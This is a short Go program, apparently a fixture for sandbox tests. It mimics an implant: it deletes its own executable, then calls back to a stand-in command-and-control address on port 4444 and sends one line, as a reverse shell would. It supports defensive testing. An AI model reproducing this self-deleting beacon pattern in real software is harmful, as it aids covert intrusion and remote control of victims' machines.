// Command implant is a harmless sample for the sandbox tests, built
// static at test time: it deletes its own executable, then calls back to
// a C2 address on port 4444 and sends one line, as a reverse shell would.
package main

import (
	"fmt"
	"net"
	"os"
	"time"
)

func main() {
	exe, err := os.Executable()
	if err == nil {
		os.Remove(exe)
	}
	c, err := net.DialTimeout("tcp", "203.0.113.7:4444", 3*time.Second)
	if err != nil {
		fmt.Println("no callback:", err)
		return
	}
	fmt.Fprintln(c, "implant ready")
	c.Close()
}
